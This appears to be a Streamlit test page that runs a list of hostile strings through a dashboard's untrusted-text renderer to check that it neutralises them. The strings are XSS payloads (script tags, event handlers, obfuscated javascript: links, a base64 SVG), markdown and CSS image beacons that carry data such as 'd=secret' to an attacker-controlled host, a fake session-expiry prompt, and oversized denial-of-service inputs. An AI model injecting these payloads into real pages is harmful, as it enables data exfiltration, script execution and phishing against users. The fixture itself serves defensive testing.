"""Everything a hostile model, upstream or title could say, drawn as our pages draw such text. HOST is the beacon."""

from __future__ import annotations

import os

import streamlit as st

from dashboard.components import untrusted

HOST = os.environ["BEACON"]

TEXTS = [
    f"![inline]({HOST}/1.png?d=secret)",
    f"![ref][r]\n\n[r]: {HOST}/2.png",
    f"| a | b |\n|---|---|\n| ![cell]({HOST}/3.png) | `a|b` `![x]({HOST}/4.png)` |",
    f"[![nested]({HOST}/5.png)]({HOST}/link)",
    f'<img src="{HOST}/6.png" onerror="alert(6)"><script>alert(7)</script><svg onload=alert(8)>',
    f"<iframe srcdoc=\"<img src='{HOST}/9.png'>\"></iframe><style>body{{background:url({HOST}/10.png)}}</style>",
    f'<form action="{HOST}/11"><input name=x autofocus onfocus=alert(11)></form>',
    "![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)",
    "[click](javascript:alert(12)) [tab](java\tscript:alert(13)) [entity](&#106;avascript:alert(14))",
    "[d](data:text/html,x)",
    f"$\\includegraphics{{{HOST}/15.png}}$ $\\def\\a{{\\a\\a}}\\a$ $x^2$ and prices from $5 to $10",
    ":red[Session expired], enter your key: :material/lock: :streamlit: ::leaf[x]{a=b} std::vector[int]",
    f"a ` b\nc ` ![x]({HOST}/16.png) `d`",
    f"- ```\n![x]({HOST}/17.png)\n",
    f"http://a.b/` ![x]({HOST}/18.png) `",
    f"<!--\n```\n-->\n![x]({HOST}/19.png)\n```",
    f"    code\n![x]({HOST}/20.png)",
    f"```\n![in code]({HOST}/21.png) <b>&amp; :red[x]\n```",
    f"@import url({HOST}/22.css) [stylesheet]({HOST}/23.css)",
    "> " * 10_000 + "deep",
    "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 10_000,
    "```\n" + "x" * 1_000_000 + "\n```",
]

st.title("Nasty")
for text in TEXTS:
    untrusted.markdown(text)
label = untrusted.plain(f"![label]({HOST}/30.png) <img src={HOST}/31.png> :material/lock: [x]({HOST})")
untrusted.error(f"![error]({HOST}/32.png)")
untrusted.caption(f"![caption]({HOST}/33.png)")
untrusted.text(f"![text]({HOST}/34.png)")
untrusted.raw(f"![raw]({HOST}/35.png) <script>alert(35)</script>")
st.button(label, key="button")
st.metric(label, 1)
st.table([{"a": label}])
st.toast(label)
st.info(label)
st.selectbox("choice", [label])
st.expander(label).write("inside")
st.write("**drawn to the end**")
